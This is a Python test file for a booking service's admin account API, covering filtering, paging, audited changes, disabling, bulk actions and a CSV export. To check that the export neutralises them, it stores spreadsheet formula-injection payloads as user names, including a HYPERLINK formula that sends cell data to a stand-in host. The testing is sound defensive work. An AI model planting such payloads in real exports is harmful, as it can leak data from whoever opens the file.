"""Admins list, export and change accounts."""

import csv
import re
import unicodedata
from collections.abc import Mapping
from dataclasses import replace
from datetime import timedelta
from io import StringIO
from typing import Any
from uuid import uuid4

import pytest
from tests.unit.entrypoints.api import PASSWORD, Api, assert_problem

from booking_domain.shared.actor import Role
from booking_domain.shared.audit import AuditEntry, AuditFilter
from booking_domain.testing.builders import Builder
from entrypoints.http.kit import csv_cells
from entrypoints.http.kit.csv_cells import PAGE

DISABLED = {"status": "disabled", "reason": "abuse"}


async def joined(api: Api, name: str = "Dorj", role: str = "customer", **more: Any) -> dict[str, Any]:
    """A new account: its id and its tokens."""
    who = {"email": f"{uuid4().hex}@example.com", "password": PASSWORD, "name": name, "role": role, **more}
    answer = await api.post("/auth/register", json=who)
    assert answer.status_code == 201, answer.text
    return {**answer.json(), "id": answer.json()["user"]["id"]}


async def my_id(api: Api, token: str) -> str:
    return str((await api.get("/auth/me", token)).json()["id"])


async def may_stay(api: Api, account: Mapping[str, Any]) -> bool:
    """Whether the account's refresh token is accepted."""
    answer = await api.post("/auth/refresh", json={"refreshToken": account["refreshToken"]})
    if answer.status_code != 200:
        assert_problem(answer, 401, "auth.invalid_token")
    return answer.status_code == 200


async def entries(api: Api, **chosen: Any) -> list[AuditEntry]:
    """The audit entries of admins' commands, oldest first, without their reads."""
    found = await api.database.reads.audit_log.page(AuditFilter(limit=10_000, **chosen))
    return [entry for entry in found if entry.action not in {"read", "user.made"}][::-1]


async def listed(api: Api, admin: str, query: str) -> list[str]:
    answer = await api.get(f"/admin/users?{query}", admin)
    assert answer.status_code == 200, answer.text
    return [user["name"] for user in answer.json()["items"]]


async def test_accounts_are_filtered(api: Api) -> None:
    admin = await api.an_admin()
    await joined(api, "Болд", phone="9911 2233")
    api.clock.advance(timedelta(minutes=10))
    await joined(api, "Anna", "provider", email="anna@example.org")
    for query, names in (
        ("", ["Anna", "Болд", "Admin"]),
        ("role=provider", ["Anna"]),
        ("role=customer&status=active", ["Болд"]),
        ("status=disabled", []),
        ("q=ANNA%40", ["Anna"]),
        ("q=nna", ["Anna"]),
        ("q=EXAMPLE.ORG", ["Anna"]),
        ("q=болд", ["Болд"]),
        ("q=9911-2233", ["Болд"]),
        ("q=%2B97699112233", ["Болд"]),
        ("q=99112234", []),
        ("createdFrom=2026-11-23T00:10:00Z", ["Anna"]),
        ("createdTo=2026-11-23T00:10:00Z", ["Болд", "Admin"]),
        ("createdTo=2026-11-23", []),
    ):
        assert await listed(api, admin, query) == names, query
    for wrong in ("role=system", "status=gone", "q=", "limit=0", "createdFrom=yesterday-ish", "cursor=x", "name=Anna"):
        assert (await api.get(f"/admin/users?{wrong}", admin)).status_code == 400, wrong


async def test_accounts_are_read_page_by_page(api: Api) -> None:
    admin = await api.an_admin()
    for number in range(4):
        await joined(api, f"Someone {number}")
    first = (await api.get("/admin/users?limit=3", admin)).json()
    rest = (await api.get(f"/admin/users?limit=3&cursor={first['nextCursor']}", admin)).json()
    assert [len(first["items"]), len(rest["items"]), rest.get("nextCursor")] == [3, 2, None]
    assert len({user["id"] for user in first["items"] + rest["items"]}) == 5


async def test_an_admin_sees_an_account_without_secrets(api: Api) -> None:
    admin, dorj = await api.an_admin(), await joined(api, phone="+97699112233")
    answer = await api.get(f"/admin/users/{dorj['id']}", admin)
    assert answer.headers["ETag"] == '"1"'
    assert answer.json() == {
        "id": dorj["id"],
        "name": "Dorj",
        "email": dorj["user"]["email"],
        "phone": "+97699112233",
        "role": "customer",
        "status": "active",
        "locale": "en",
        "timeZone": "Asia/Ulaanbaatar",
        "createdAt": "2026-11-23T00:00:00Z",
        "managedSalons": [],
        "version": 1,
    }
    assert_problem(await api.get(f"/admin/users/{uuid4()}", admin), 404, "user.not_found")


async def test_a_change_is_audited_without_personal_data(api: Api) -> None:
    admin, dorj = await api.an_admin(), await joined(api, "Dorj Before")
    change = {"name": "Dorj After", "locale": "MN", "timeZone": "Europe/Berlin", "role": "customer"}
    answer = await api.patch(f"/admin/users/{dorj['id']}", admin, json=change, headers={"If-Match": '"1"'})
    assert answer.status_code == 200, answer.text
    assert answer.headers["ETag"] == '"2"'
    assert {name: answer.json()[name] for name in change} == {**change, "locale": "mn"}
    (entry,) = await entries(api)
    assert (entry.action, entry.subject and str(entry.subject.id)) == ("user.changed", dorj["id"])
    assert str(entry.actor.id) == await my_id(api, admin)
    assert entry.details == {
        "changed": ["locale", "name", "time_zone"],
        "before": {"locale": "en", "time_zone": "Asia/Ulaanbaatar"},
        "after": {"locale": "mn", "time_zone": "Europe/Berlin"},
    }
    assert "Dorj" not in repr(entry)
    assert await may_stay(api, dorj)


async def test_a_change_with_a_stale_version_is_refused(api: Api) -> None:
    admin, dorj = await api.an_admin(), await joined(api)
    path = f"/admin/users/{dorj['id']}"
    assert (await api.patch(path, admin, json={"name": "One"}, headers={"If-Match": '"1"'})).status_code == 200
    refused = await api.patch(path, admin, json={"name": "Two"}, headers={"If-Match": '"1"'})
    assert_problem(refused, 412, "conflict.stale_version")
    assert (await api.get(path, admin)).json()["name"] == "One"


async def test_a_change_without_effect_makes_no_new_version(api: Api) -> None:
    admin, dorj = await api.an_admin(), await joined(api)
    answer = await api.patch(f"/admin/users/{dorj['id']}", admin, json={"name": "Dorj", "status": "active"})
    assert answer.headers["ETag"] == '"1"'
    assert [entry.action for entry in await entries(api)] == ["user.manage"]


async def test_a_change_that_breaks_a_rule_is_refused(api: Api) -> None:
    admin, dorj = await api.an_admin(), await joined(api)
    for change, pointer in (
        ({"status": "disabled"}, "/reason"),
        ({"reason": "abuse"}, "/reason"),
        ({"status": "active", "reason": "abuse"}, "/reason"),
        ({"timeZone": "Mars/Olympus"}, "/timeZone"),
        ({"name": " "}, "/name"),
        ({"locale": "mn\nx"}, "/locale"),
        ({"locale": "de"}, "/locale"),
    ):
        answer = await api.patch(f"/admin/users/{dorj['id']}", admin, json=change)
        assert (answer.status_code, [error["pointer"] for error in answer.json()["errors"]]) == (422, [pointer])
    assert await entries(api) == []


async def test_a_role_or_status_that_cannot_be_assigned_is_refused(api: Api) -> None:
    admin, dorj = await api.an_admin(), await joined(api)
    for change in (
        {"role": "system"},
        {"status": "deleted"},
        {"status": "disabled", "reason": "because of +97699112233"},
        {"email": "new@example.com"},
        {"version": 9},
        {"id": str(uuid4())},
        {"passwordHash": "x"},
        {"createdAt": "2020-01-01T00:00:00Z"},
    ):
        answer = await api.patch(f"/admin/users/{dorj['id']}", admin, json=change)
        assert answer.status_code == 400, change
    assert (await api.get(f"/admin/users/{dorj['id']}", admin)).json()["version"] == 1


async def test_disabling_ends_all_sessions_and_enabling_allows_signing_in(api: Api) -> None:
    admin, dorj, other = await api.an_admin(), await joined(api), await joined(api)
    login = {"email": dorj["user"]["email"], "password": PASSWORD}
    assert (await api.patch(f"/admin/users/{dorj['id']}", admin, json=DISABLED)).json()["status"] == "disabled"
    assert not await may_stay(api, dorj)
    assert await may_stay(api, other)
    assert_problem(await api.post("/auth/login", json=login), 403, "auth.account_disabled")
    assert_problem(await api.get("/auth/me", dorj["accessToken"]), 401, "auth.invalid_token")
    assert (await api.patch(f"/admin/users/{dorj['id']}", admin, json={"status": "active"})).status_code == 200
    assert (await api.post("/auth/login", json=login)).status_code == 200
    audited = [(entry.action, entry.details.get("reason")) for entry in await entries(api)]
    assert audited == [("user.disabled", "abuse"), ("user.enabled", None)]


async def test_a_new_role_takes_effect_at_the_next_sign_in(api: Api) -> None:
    admin, dorj = await api.an_admin(), await joined(api)
    assert (await api.patch(f"/admin/users/{dorj['id']}", admin, json={"role": "manager"})).status_code == 200
    assert not await may_stay(api, dorj)
    login = {"email": dorj["user"]["email"], "password": PASSWORD}
    assert (await api.post("/auth/login", json=login)).json()["user"]["role"] == "manager"
    (entry,) = await entries(api)
    assert entry.details == {"changed": ["role"], "before": {"role": "customer"}, "after": {"role": "manager"}}


async def test_admins_cannot_disable_or_demote_themselves(api: Api) -> None:
    admin = await api.an_admin()
    me = await my_id(api, admin)
    for change in (DISABLED, {"role": "customer"}):
        assert_problem(await api.patch(f"/admin/users/{me}", admin, json=change), 403, "user.own_account")
    bulk = {"ids": [me], "action": "disable", "reason": "requested"}
    assert_problem(await api.post("/admin/users/bulk", admin, json=bulk), 403, "user.own_account")
    assert (await api.patch(f"/admin/users/{me}", admin, json={"name": "Me"})).json()["role"] == "admin"


@pytest.mark.parametrize("change", [DISABLED, {"role": "customer"}])
async def test_a_former_admin_cannot_administer_with_an_old_token(api: Api, change: dict[str, str]) -> None:
    admin, other, dorj = await api.an_admin(), await api.an_admin(), await joined(api)
    them = await my_id(api, other)
    assert (await api.patch(f"/admin/users/{them}", admin, json=change)).status_code == 200
    for method, path, body in (
        ("PATCH", f"/admin/users/{them}", {"role": "admin", "status": "active"}),
        ("PATCH", f"/admin/users/{dorj['id']}", {"role": "admin"}),
        ("POST", "/admin/users/bulk", {"ids": [dorj["id"]], "action": "end_sessions"}),
        ("DELETE", f"/admin/users/{dorj['id']}/sessions", None),
        ("DELETE", f"/admin/users/{dorj['id']}/sessions/{uuid4()}", None),
        ("DELETE", f"/admin/users/{dorj['id']}/second-factor", None),
    ):
        more = {} if body is None else {"json": body}
        assert_problem(await api.call(method, path, other, **more), 401, "auth.invalid_token")
    assert await may_stay(api, dorj)


async def test_an_admin_ends_all_sessions_of_a_user(api: Api) -> None:
    admin, dorj, other = await api.an_admin(), await joined(api), await joined(api)
    login = {"email": dorj["user"]["email"], "password": PASSWORD}
    second = (await api.post("/auth/login", json=login)).json()
    assert (await api.delete(f"/admin/users/{dorj['id']}/sessions", admin)).status_code == 204
    assert [await may_stay(api, each) for each in (dorj, second, other)] == [False, False, True]
    assert_problem(await api.delete(f"/admin/users/{uuid4()}/sessions", admin), 404, "user.not_found")
    (entry,) = await entries(api)
    assert (entry.action, entry.subject and str(entry.subject.id)) == ("user.end_sessions", dorj["id"])
    assert (await api.post("/auth/login", json=login)).status_code == 200


async def test_a_bulk_action_applies_to_all_accounts_or_none(api: Api) -> None:
    admin = await api.an_admin()
    people = [await joined(api) for _ in range(3)]
    ids = [each["id"] for each in people]

    async def bulk(**body: Any) -> Any:
        return await api.post("/admin/users/bulk", admin, json=body)

    missing = await bulk(ids=[*ids, str(uuid4())], action="disable", reason="fraud")
    assert_problem(missing, 404, "user.not_found")
    mine = await bulk(ids=[*ids, await my_id(api, admin)], action="disable", reason="fraud")
    assert_problem(mine, 403, "user.own_account")
    assert [await may_stay(api, each) for each in people] == [True] * 3
    assert await entries(api) == []

    people = [await joined(api) for _ in range(3)]
    ids = [each["id"] for each in people]
    assert (await bulk(ids=ids[:1], action="disable", reason="fraud")).json() == {"changed": 1}
    assert (await bulk(ids=ids, action="disable", reason="fraud")).json() == {"changed": 2}
    assert [await may_stay(api, each) for each in people] == [False] * 3
    assert (await bulk(ids=ids, action="enable")).json() == {"changed": 3}
    assert (await bulk(ids=ids, action="enable")).json() == {"changed": 0}
    assert (await bulk(ids=ids, action="end_sessions")).json() == {"changed": 0}
    audited = [(entry.action, entry.subject and str(entry.subject.id)) for entry in await entries(api)]
    assert sorted(audited, key=str) == sorted(
        [("user.bulk", None)]
        + [(action, each) for action in ("user.disabled", "user.enabled", "user.end_sessions") for each in ids],
        key=str,
    )


async def test_a_bulk_action_takes_1_to_100_different_accounts(api: Api) -> None:
    admin, one = await api.an_admin(), str(uuid4())
    for body, status in (
        ({"ids": [], "action": "enable"}, 400),
        ({"ids": [str(uuid4()) for _ in range(101)], "action": "enable"}, 400),
        ({"ids": ["x"], "action": "enable"}, 400),
        ({"ids": [one], "action": "delete"}, 400),
        ({"ids": [one, one], "action": "enable"}, 422),
        ({"ids": [one], "action": "disable"}, 422),
        ({"ids": [one], "action": "end_sessions", "reason": "abuse"}, 422),
        ({"ids": [str(uuid4()) for _ in range(100)], "action": "enable"}, 404),
    ):
        assert (await api.post("/admin/users/bulk", admin, json=body)).status_code == status, body


async def test_a_bulk_action_is_idempotent_under_one_key(api: Api) -> None:
    admin, dorj = await api.an_admin(), await joined(api)
    body = {"ids": [dorj["id"]], "action": "end_sessions"}
    first, second = [
        await api.post("/admin/users/bulk", admin, json=body, headers={"Idempotency-Key": "k"}) for _ in range(2)
    ]
    assert (first.status_code, first.json()) == (200, {"changed": 1})
    assert (second.status_code, second.content) == (200, first.content)
    assert (second.headers["Idempotency-Replayed"], len(await entries(api))) == ("true", 1)


HOSTILE = (
    *("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\r=1+1", '=HYPERLINK("http://x?"&A1)', 'a,"b"', "ж\n=1", "'=1"),
    *(
        "\nx",
        "\n=1",
        "  =1+1",
        "\ufeff =1",
        "\uff1d1",
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
        "ж;=1",
        "ж\t=1",
        "ж\r =1",
    ),
)


async def exported(api: Api) -> str:
    """The CSV file of accounts with these names."""
    admin, make = await api.an_admin(), Builder(seed=7)
    async with api.database.begin() as tx:
        for name in HOSTILE:
            await tx.users.add(replace(make.user(), name=name))
    answer = await api.get("/admin/users/export?role=customer", admin)
    assert answer.headers["Content-Type"].startswith("text/csv")
    assert answer.headers["Content-Disposition"] == 'attachment; filename="users.csv"'
    assert answer.text.endswith("\r\n")
    return answer.text


def formulas(file: str) -> list[str]:
    rows = list(csv.reader(StringIO(file, newline="")))
    assert rows[0][:5] == ["id", "name", "email", "phone", "role"]
    assert sorted(row[1].replace("'", "") for row in rows[1:]) == sorted(name.replace("'", "") for name in HOSTILE)
    return [cell for row in rows for cell in row if is_computed(cell)]


def is_computed(cell: str) -> bool:
    """Whether some spreadsheet computes the cell or a part that it splits off; ASCII tells fullwidth from halfwidth."""
    parts = [unicodedata.normalize("NFKC", part).strip("\ufeff ") for part in re.split(r"[;\t\r\n]", cell)]
    return cell[:1] in ("\t", "\r", "\n") or any(part.startswith(("=", "+", "-", "@")) for part in parts)


async def test_an_export_computes_nothing_in_a_spreadsheet(api: Api) -> None:
    file = await exported(api)
    assert formulas(file) == []
    assert file.count(",'+976") == len(HOSTILE)


async def test_an_export_with_formulas_is_found(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(csv_cells, "neutralise_formulas", str)
    assert len(formulas(await exported(api))) == 19 + len(HOSTILE)


async def test_an_export_has_every_account_of_the_filter(api: Api) -> None:
    admin, make, there = await api.an_admin(), Builder(seed=7), 0
    for exactly in (PAGE - 1, PAGE, PAGE + 1):
        async with api.database.begin() as tx:
            for _ in range(exactly - there):
                await tx.users.add(make.user(Role.PROVIDER))
        there = exactly
        rows = list(csv.DictReader(StringIO((await api.get("/admin/users/export?role=provider", admin)).text)))
        assert len({row["id"] for row in rows}) == len(rows) == exactly
